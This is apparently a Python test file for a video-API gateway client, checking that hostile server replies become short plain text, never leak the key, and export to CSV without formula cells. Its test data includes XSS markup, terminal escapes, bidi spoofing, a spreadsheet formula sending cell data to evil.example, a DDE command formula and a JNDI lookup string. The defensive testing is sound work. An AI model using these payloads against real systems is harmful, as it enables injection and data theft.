"""A gateway that answers anything: read without harm, and never more than plain text in whatever people see."""

from __future__ import annotations

import csv
import io
import json
import logging
import sqlite3
import unicodedata
from collections.abc import Iterator
from contextlib import closing
from dataclasses import fields, is_dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from nodes.gateway import contract
from nodes.gateway.client import Gateway, Timeouts, open_session
from nodes.gateway.errors import APIMallError
from nodes.jobs.order import Order
from nodes.journal.reads import Records
from nodes.journal.rows import Job, Only, Problem, State
from nodes.panel import job_facts
from nodes.rehearsal.faults import instead
from nodes.rehearsal.server import RehearsalGateway
from tests.support import harness
from tests.support.gateway import ScriptedGateway, answer

KEY = "sk-canary-5f1e8a90c2"
LONGEST_SHOWN = 5000
EXAMPLES = 100

HOSTILE = {
    "markup": '<img src=x onerror=alert(1)><script>alert("x")</script>',
    "link": "[pay here](javascript:alert(1)) ![x](https://evil.example/x.png) `code` **bold**",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b31m",
    "bidi": "\u202egnp.exe\u2066\u2069\u200f\u061c",
    "invisible": "\ufeffa\u200bb\u00adc\u2060",
    "nul": "\x00\x08\x7f",
    "lines": "fine\r\nERROR a line of its own\u2028another\u2029third\x0bfourth\x85fifth",
    "half a letter": "half \ud800 a letter \udc00",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "formula of another width": "\uff1dcmd|'/c calc'!A0",
    "format": "%s%n{0}{self.__class__} ${jndi:ldap://evil.example}",
    "marks": "e" + "\u0301" * 3000,
    "very long": "A" * 200_000,
    "key": f"your key is {KEY}",
}
PLACES = ("refusal", "acceptance", "failure", "addresses", "status", "slot", "file")


def is_harmless(text: str) -> bool:
    """One line at most of what is seen: no controls, no direction marks, nothing that cannot be encoded."""
    return not any(unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in text)


def texts_of(value: object) -> Iterator[str]:
    """Every text in a value of the contract."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, (list, tuple)):
        for part in value:
            yield from texts_of(part)
    elif isinstance(value, dict):
        yield from texts_of([*value, *value.values()])
    elif is_dataclass(value):
        for field in fields(value):
            yield from texts_of(getattr(value, field.name))


# The parser

TEXTS = st.text(max_size=60) | st.sampled_from([text[:4000] for text in HOSTILE.values()])
NUMBERS = st.integers() | st.floats() | st.sampled_from([10**400, -1, 0, 1e308, float("nan"), float("inf"), 2**63])
JSON = st.recursive(
    st.none() | st.booleans() | NUMBERS | TEXTS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=10,
)
NAMES = (
    *("task_id", "status", "video_url", "resultUrls", "credits_used", "credits_refunded", "remaining_credits", "model"),
    *("error_message", "failMsg", "upload_url", "public_url", "content_type", "url", "created_at", "completed_at"),
    *("api_credits", "credits", "request_id", "code", "message"),
)
DATA = st.fixed_dictionaries(
    {}, optional={**dict.fromkeys(NAMES, JSON), "output": JSON | st.dictionaries(st.just("resultUrls"), JSON)}
)
ENVELOPES = st.fixed_dictionaries(
    {}, optional={"success": JSON, "data": DATA | JSON, "error": DATA | JSON, "request_id": JSON, "message": JSON}
)


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ENVELOPES)
def test_whatever_is_read_from_an_answer_is_short_and_plain(envelope: dict[str, Any]) -> None:
    read = (
        contract.parse_accepted(envelope),
        contract.parse_task(envelope, "vid_1"),
        contract.parse_refusal(envelope),
        contract.parse_balance(envelope),
        contract.parse_upload_address(envelope, "image/png"),
        contract.parse_file_url(envelope),
    )
    for text in texts_of(read):
        assert is_harmless(text)
        assert len(text) <= 4096
        assert text.encode()


@pytest.mark.parametrize("what", HOSTILE)
def test_every_field_of_an_answer_may_be_hostile(what: str) -> None:
    for text in (HOSTILE[what], f"https://cdn.example/{HOSTILE[what]}", HOSTILE[what][:100]):
        fields = {**dict.fromkeys(NAMES, text), "output": {"resultUrls": [text, text]}}
        envelope = {"success": text, "data": fields, "error": fields, "request_id": text, "message": text}
        for read in (
            contract.parse_accepted(envelope),
            contract.parse_task(envelope, "vid_1"),
            contract.parse_refusal(envelope),
            contract.parse_upload_address(envelope, "image/png"),
            contract.parse_file_url(envelope),
        ):
            assert all(is_harmless(found) and len(found) <= 4096 for found in texts_of(read))
        # A list of addresses alone, as a gateway gives it that fills no other field.
        task = contract.parse_task({"data": {"status": "completed", "output": {"resultUrls": [text]}}}, "vid_1")
        assert all(is_harmless(found) for found in texts_of(task))


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=300) | ENVELOPES.map(lambda value: json.dumps(value).encode("utf-8", "surrogatepass")))
def test_any_bytes_are_an_object_or_nothing(raw: bytes) -> None:
    read = contract.parse_object(raw, secret=KEY)
    assert read is None or isinstance(read, dict)
    assert KEY not in json.dumps(read)


STATUSES = st.sampled_from(
    ["200 OK", "202 Accepted", "400 Bad", "401 No", "409 Conflict", "429 Slow", "451 No", "503 x"]
)
HEADERS = st.sampled_from(["Retry-After: -1", "Retry-After: 9e99", "Content-Encoding: gzip", "Set-Cookie: a=b", "X: y"])


def gateway_at(scripted: ScriptedGateway) -> Gateway:
    session = open_session(scripted.base_url)
    return Gateway(scripted.base_url, KEY, session=lambda: session, timeouts=Timeouts(2.0, 2.0, 3.0))


@settings(max_examples=25, deadline=None)
@given(STATUSES, HEADERS, st.binary(max_size=200) | ENVELOPES.map(lambda value: json.dumps(value).encode()))
def test_over_a_socket_an_answer_is_understood_or_an_error_of_ours(status: str, header: str, body: bytes) -> None:
    with ScriptedGateway(answer(body, status, header)) as scripted:
        gateway = gateway_at(scripted)
        for ask in (lambda: gateway.create(b"{}", "key-1"), lambda: gateway.query("vid_1"), gateway.balance):
            try:
                found: object = ask()
            except APIMallError as failure:
                assert is_harmless(str(failure)) and len(str(failure)) < LONGEST_SHOWN
                assert failure.__cause__ is None and failure.__context__ is None
                found = vars(failure)
            assert not [text for text in texts_of(found) if KEY in text or not is_harmless(text)]


@pytest.mark.parametrize(
    "reply",
    [
        b"HTTP/1.1 200 OK\r\n" + b"X-Filler: y\r\n" * 2000 + b"\r\n{}",
        b"HTTP/1.1 200 OK\r\nX: " + b"y" * 200_000 + b"\r\n\r\n{}",
        b"HTTP/1.1 999 \x1b[31m\r\nContent-Length: 2\r\n\r\n{}",
        b"HTTP/9.9 200 OK\r\n\r\n{}",
        b"\x16\x03\x01\x02\x00\x01",
        b"HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n{}",
        b"HTTP/1.1 200 OK\r\nContent-Length: 99999999999999\r\n\r\n{}",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFF\r\n{}",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}",
        b"HTTP/1.1 100 Continue\r\n\r\n" * 50 + b"HTTP/1.1 200 OK\r\n\r\n{}",
        answer(b"[" * 3_000_000),
        answer(b'{"data":' + b"1" * 3_000_000 + b"}"),
        answer(b'{"success":true,"data":{"task_id":"' + b"A" * 10_000_000 + b'"}}'),
        answer(b"{}" + b" " * 10_000_000),
    ],
    ids=["headers", "header", "status", "version", "tls", "negative", "endless", "chunk", "no chunk", "continue",
         "deep", "number", "10 MB of id", "10 MB of nothing"],
)  # fmt: skip
def test_an_answer_that_is_none_ends_as_an_error_of_ours(reply: bytes) -> None:
    with ScriptedGateway(reply) as scripted, pytest.raises(APIMallError) as failure:
        gateway_at(scripted).create(b"{}", "key-1")
    assert is_harmless(str(failure.value)) and len(str(failure.value)) < LONGEST_SHOWN


# A job's whole life with such a gateway


def envelope(data: object = None, **more: object) -> bytes:
    return json.dumps({"success": True, "data": data, **more}).encode()


def play(gateway: RehearsalGateway, place: str, text: str) -> Order:
    """Script one hostile answer at `place`, and give the order that meets it."""
    gateway.faults.clear()
    order = harness.text_order(f"meets it at {place}")
    error = {"code": text, "message": text}
    told: dict[str, object]
    if place == "refusal":
        gateway.always(
            "create", instead(400, body=json.dumps({"success": False, "error": error, "request_id": text}).encode())
        )
    elif place == "acceptance":
        told = {"task_id": text, "request_id": text, "credits_used": text, "remaining_credits": text}
        gateway.always("create", instead(200, body=envelope(told, request_id=text), done=True))
    elif place == "failure":
        told = {"status": "failed", "error_message": text, "failMsg": text, "credits_used": text, "model": text}
        gateway.always("poll", instead(200, body=envelope(told, request_id=text), done=True))
    elif place == "addresses":
        told = {"status": "completed", "video_url": f"https://10.0.0.1/{text}", "output": {"resultUrls": [text]}}
        gateway.always("poll", instead(200, body=envelope(told), done=True))
    elif place == "status":
        gateway.script("poll", instead(200, body=envelope({"status": text}), done=True))
    elif place == "slot":
        order = harness.picture_order("meets it at the upload")
        told = {
            "upload_url": f"https://r2.example/{text}",
            "public_url": f"https://cdn.example/{text}",
            "content_type": text,
        }
        gateway.always("upload_url", instead(200, body=envelope(told), done=True))
        gateway.always("base64", instead(200, body=envelope({"url": f"https://cdn.example/{text}"}), done=True))
    else:
        gateway.script("download", instead(404, body=text.encode("utf-8", "replace"), content_type="text/html"))
    return replace(order, take=len(gateway.record.requests) + 1)


def columns(journal: Path) -> dict[str, set[str]]:
    """Every text in the journal, by table and column."""
    found: dict[str, set[str]] = {}
    with closing(sqlite3.connect(journal)) as connection:
        tables = [row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        for table in tables:
            cursor = connection.execute(f"SELECT * FROM {table}")
            names = [description[0] for description in cursor.description]
            for row in cursor:
                for name, value in zip(names, row, strict=True):
                    if isinstance(value, str):
                        found.setdefault(f"{table}.{name}", set()).add(value)
    return found


@pytest.mark.parametrize("place", PLACES)
def test_what_a_gateway_says_reaches_people_as_plain_text(
    place: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    told: list[str] = []
    with (
        harness.rehearsal(tmp_path / "gateway") as gateway,
        harness.bench(tmp_path / "user", gateway.base_url, harness.Wiring(max_jobs=1000, key=KEY)) as bench,
    ):
        for text in HOSTILE.values():
            ticket = bench.make(play(gateway, place, text))
            told.append(ticket.status().text)
            try:
                ticket.result()
            except APIMallError as failure:
                assert type(failure) is not APIMallError, f"nobody foresaw {text[:40]!r}: {failure}"
                told += [str(failure), failure.short]
        jobs = list(Records(bench.journal.place).page(harness.ACCOUNT, before=None, limit=100, only=Only.ALL).jobs)
        assert len(jobs) == len(HOSTILE)
        shown = [json.dumps([job_facts.card(job), job_facts.trouble(job), job_facts.references(job)]) for job in jobs]
        shown += [job_facts.report(job, [], [(0.0, "post", "")], ["1"], [KEY]).replace("\n", " ") for job in jobs]
        written = columns(harness.file_of(bench.journal))
    told += shown + [text for texts in written.values() for text in texts]
    # Tracebacks have lines of their own; what we log of our own accord has one.
    told += [record.getMessage() for record in caplog.records if record.name.startswith("apimall_video")]
    unforeseen = [each for each in caplog.records if each.exc_info and "rehearsal" not in each.name]
    assert unforeseen == [], "nothing went unforeseen"
    for text in told:
        assert is_harmless(text), text[:200]
        assert KEY not in text
        assert len(text) < LONGEST_SHOWN * 2


# Where texts come out


def job_with(text: str) -> Job:
    """A job whose every text is `text`."""
    texts = {field.name: text for field in fields(Job) if "str" in str(field.type)}
    numbers = {field.name: 1 for field in fields(Job) if field.name not in texts and field.name != "body"}
    plain = {"body": None, "state": State.FAILED, "parked": None, "problem": None, "delivered_at": None}
    return Job(**{**numbers, **texts, **plain, "ending": Problem(text, text)})  # type: ignore[arg-type]


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(TEXTS.filter(lambda text: "\0" not in text))
def test_the_export_has_one_row_a_job_and_no_cell_that_a_spreadsheet_runs(text: str) -> None:
    lines = job_facts.csv_heading().removeprefix("\ufeff") + job_facts.csv_lines([job_with(text), job_with("plain")])
    heading, first, second = csv.reader(io.StringIO(lines, newline=""))
    assert len(heading) == len(first) == len(second)
    for cell in first:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
